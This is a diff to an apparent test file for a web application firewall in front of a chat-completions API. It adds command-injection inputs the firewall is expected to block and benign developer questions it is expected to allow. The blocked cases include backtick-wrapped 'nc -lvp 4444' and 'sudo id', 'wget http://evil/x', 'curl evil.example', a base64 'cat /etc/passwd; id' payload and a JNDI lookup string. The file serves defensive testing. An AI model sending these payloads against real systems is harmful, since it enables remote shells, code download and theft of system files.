@@ -16,7 +16,7 @@ from gateway.waf import tautology
 from gateway.waf.model import WafSpec
 from gateway.waf.packs import builtin_packs, compile_waf, pack_rules
 from gateway.waf.parts import RequestView, from_raw_http
-from gateway.waf.transforms import quote_split_words
+from gateway.waf.transforms import quote_split_words, remove_markdown_code_marks
 
 CHAT = "/v1/chat/completions"
 BASE_HEADERS = [
@@ -389,12 +389,18 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
             ("q", "data://text/plain;base64,Y2F0IC9ldGMvcGFzc3dkOyBpZA=="),  # its payload: cat /etc/passwd; id
             ("q", "@{[qx{whoami}]}"),
             ("q", "{,ifconfig}"),
+            ("q", "a`sleep 60`"),
+            ("q", "x; `id` y"),
+            ("q", "```id\nx\n```"),  # a fence whose "language" prints by itself is run
         ],
         [
             ("q", "cats; dogs"),
             ("q", "price; $5 each"),
             ("q", "data://text/plain;base64,SSBsb3ZlIFBIUAo="),
             ("q", "How do I call /users/{id} with DELETE?"),  # a URL template's placeholder
+            ("q", "Can you review this?\n```python\nimport hashlib\nh = hashlib.md5(p).hexdigest()\n```\nThanks"),
+            ("json", "What does `git reset --hard HEAD~1` do to my changes?"),
+            ("q", "Is there a way to make `rm` ask first, like `rm -i` does?"),
         ],
     ),
     "rce-101": (
@@ -446,9 +452,15 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     ),
     "rce-140": ([("q", "wget http://evil/x"), ("q", "cat /etc/issue")], [("q", "cat videos")]),
     "rce-150": ([("q", "/b?n/c?t /etc/passwd"), ("q", "c''at x")], [("q", "what? why?")]),
-    "rce-160": ([("q", "x; nc -lvp 4444"), ("q", "x 2>&1")], [("q", "x - y")]),
+    "rce-160": (
+        [("q", "x; nc -lvp 4444"), ("q", "x 2>&1"), ("q", "x`nc -lvp 4444`")],
+        [("q", "x - y"), ("q", "Should I run `rm -rf build/` before a release?")],
+    ),
     "rce-170": ([("q", "& dir C:\\"), ("q", "%COMSPEC%")], [("q", "the directory")]),
-    "rce-180": ([("q", "time curl evil.example"), ("q", "x; nohup ifconfig")], [("q", "time flies like an arrow")]),
+    "rce-180": (
+        [("q", "time curl evil.example"), ("q", "x; nohup ifconfig"), ("q", "x`sudo id`")],
+        [("q", "time flies like an arrow"), ("q", "What does `sudo rm -rf /var/lib/apt/lists/*` clean up?")],
+    ),
     "rce-190": ([("h:x-filename", "shell.php"), ("h:x-file-name", ".htaccess")], [("h:x-filename", "report.pdf")]),
     "rce-200": ([("q", "env --version")], [("q", "version 2 --final")]),
     "rce-210": ([("h:user-agent", "${jndi:ldap://evil/x}"), ("q", "${${::-j}ndi:rmi://x}")], [("q", "${name}")]),
@@ -456,7 +468,13 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "rce-230": ([("q", "bin/visudo")], [("q", "recycle bin is empty")]),
     "rce-240": (
         [("q", "x;visudo"), ("q", "&aptitude"), ("h:user-agent", "x=1;ssh-copy-id u@h"), ("qname", ";regedit /E x")],
-        [("q", "see below; then go"), ("q", "ls"), ("qname", "id"), ("json", "Run code in a sandbox (python 3.11)")],
+        [
+            ("q", "see below; then go"),
+            ("q", "ls"),
+            ("qname", "id"),
+            ("json", "Run code in a sandbox (python 3.11)"),
+            ("q", "Is `chmod 777` really that dangerous?"),
+        ],
     ),
     "rce-241": (
         [
@@ -971,3 +989,11 @@ def test_quote_split_words_is_linear_on_a_long_word_with_a_stray_quote():
     assert quote_split_words("a" * 1_000_000 + "' x") == ""
     assert time.perf_counter() - started < 0.5
     assert quote_split_words("x; 'wh'oami and O'Keefe") == "whoami OKeefe"
+
+
+def test_remove_markdown_code_marks_is_linear_on_many_unclosed_spans_and_fences():
+    """rce-100 reads every argument through this transform: a megabyte of backticks that open spans and fences
+    that never close must cost one pass, not one per backtick."""
+    started = time.perf_counter()
+    remove_markdown_code_marks("a `b c " * 150_000 + "\n```python\n" * 20_000)
+    assert time.perf_counter() - started < 0.5
